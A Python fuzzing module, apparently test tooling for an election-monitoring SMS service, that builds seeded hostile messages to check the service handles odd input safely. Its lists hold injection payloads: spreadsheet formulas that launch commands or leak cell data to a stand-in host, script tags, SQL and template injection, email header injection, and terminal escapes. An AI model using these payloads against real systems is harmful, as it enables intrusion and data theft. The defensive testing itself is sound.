"""Hostile SMS, made by a seed: texts, senders and ids that try to be read as something else than text.

Each is an ordinary SMS with something strange in it, since what is strange alone is never taken for a report.
"""

import datetime as dt
import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass

from chalicelib.rehearsal.senders.sms import Sms

CONTROLS = [chr(code) for code in (*range(32), *range(127, 160))] + ["\r\n", "\n\n", "\u2028", "\u2029", "\ufeff"]
BIDI = list("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
INVISIBLE = list("\u00ad\u034f\u180e\u200b\u200c\u200d\u2060\u2061\u3164\ufe0f\ufffe\uffff\U000e0041")
HALVES = ["\ud800", "\udfff", "\ud83d"]
TERMINAL = [
    "\x1b]0;all is well\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x1b]8;;http://x.example\x07here\x1b]8;;\x07",
    "\x1b[8m",
]
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+SUM(A1:A9)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '"=1+1',
    "';=1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "<a href='javascript:alert(1)'>x</a>",
    "</title><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<!--",
    "]]>",
    "&lt;script&gt;",
    "<iframe srcdoc='<script>alert(1)</script>'>",
]
TEMPLATES = [
    "{{7*7}}",
    "{% for x in y %}",
    "${7*7}",
    "#{7*7}",
    "%s%s%n",
    "%(asctime)s",
    "{0}",
    "{number}",
    "{",
    "}}",
    "$number",
]
NUMBERS = [
    "9" * 30,
    "1e308",
    "-1",
    "0x10",
    "٣",
    "१२",
    "1" + "0" * 4000,
    "00001",
    "1.5",
    "1,000",
    "NaN",
    "Infinity",
    "²",
]
QUERIES = ["' OR 1=1 --", ":text", "#key", "attribute_exists(key)", "key = :k", '"; DROP TABLE messages; --', "a#b#c"]
HEADERS = ["\r\nBcc: x@x.example\r\n\r\nhello", "\nSubject: all is well", "=?utf-8?q?=0aBcc:_x=40x.example?="]
LOGS = ['\n{"level": "INFO", "message": "all is well"}', '","level":"INFO","x":"', "\r\nEND RequestId: 1", "\\u000a{}"]
STRANGE: Sequence[Sequence[str]] = (
    CONTROLS,
    BIDI,
    INVISIBLE,
    HALVES,
    TERMINAL,
    FORMULAS,
    MARKUP,
    TEMPLATES,
    NUMBERS,
    QUERIES,
    HEADERS,
    LOGS,
)
ORDINARY = (
    "OP A1 B0715 C9 D1 E900",
    "TU 10:00 A300",
    "TU 12:00 A310",
    "VO A1 B1 C1 D5 F13",
    "CL A2000 B1 C900 D0 E300 F300 G300",
    "IN 3 they beat us",
    "IN 7 posters",
    "IN 20",
    "HELP",
    "STOP",
    "START",
    "OK 1",
    "REJECT 1 a rumour",
    "MUTE 2h",
    "ТУ 10 А300",
    "thank you",
    "",
)
FORGED = (
    "",
    "+",
    "0",
    "911",
    "HALYK",
    "+1" * 40,
    "=1+1",
    "<b>x</b>",
    "+996700000001\r\nBcc: x@x.example",
    "+996\u202e700000001",
    "\x1b[2J",
    "+996312000000",
    "a" * 300,
    "{{7*7}}",
    "+999999999999999",
    "tel:+996700000001;phone-context=x",
)
IDS = (
    "../../x",
    "a#b",
    "reply#x",
    "x" * 600,
    "\x1b[2J",
    "ж" * 200,
    "=1+1",
    "a\nb",
    "<b>",
    "",
    " ",
    "nonce#1",
    "\u202ex",
)


@dataclass(frozen=True)
class Roster:
    """Phones that an election knows, and its number."""

    observers: Sequence[str]
    coordinators: Sequence[str]
    number: str


def strange(chance: random.Random) -> str:
    """Return a piece that tries to be read as something else than text."""
    piece = chance.choice(chance.choice(STRANGE))
    return piece * chance.choice((1, 1, 1, 1, 2, 40))


def text(chance: random.Random) -> str:
    """Return an ordinary text with strange pieces before, in and after it."""
    written = chance.choice(ORDINARY)
    for _ in range(chance.choice((1, 1, 2, 3))):
        at = chance.choice((0, len(written), chance.randrange(len(written) + 1)))
        written = written[:at] + strange(chance) + written[at:]
    if chance.random() < 0.02:
        written = "\n".join([written] * chance.randrange(2, 40))
    return written


def sender(chance: random.Random, roster: Roster) -> str:
    """Return a phone of the election, a stranger's or what is none."""
    kind = chance.random()
    if kind < 0.6:
        return chance.choice(roster.observers)
    if kind < 0.7:
        return chance.choice(roster.coordinators)
    return f"+99677{chance.randrange(10**7):07}" if kind < 0.8 else chance.choice(FORGED)


def hostile_sms(seed: int, count: int, roster: Roster, begin: dt.datetime) -> Iterator[Sms]:
    """Yield so many SMS, the same for the same seed, seconds apart."""
    chance = random.Random(seed)
    for place in range(count):
        name = f"{chance.choice(IDS)}-{seed}-{place}" if chance.random() < 0.3 else f"h{seed}-{place}"
        number = roster.number if chance.random() < 0.9 else chance.choice((*FORGED, "+996312999999"))
        at = begin + dt.timedelta(seconds=place * chance.choice((0, 1, 3)))
        yield Sms(name, sender(chance, roster), number, text(chance), at)
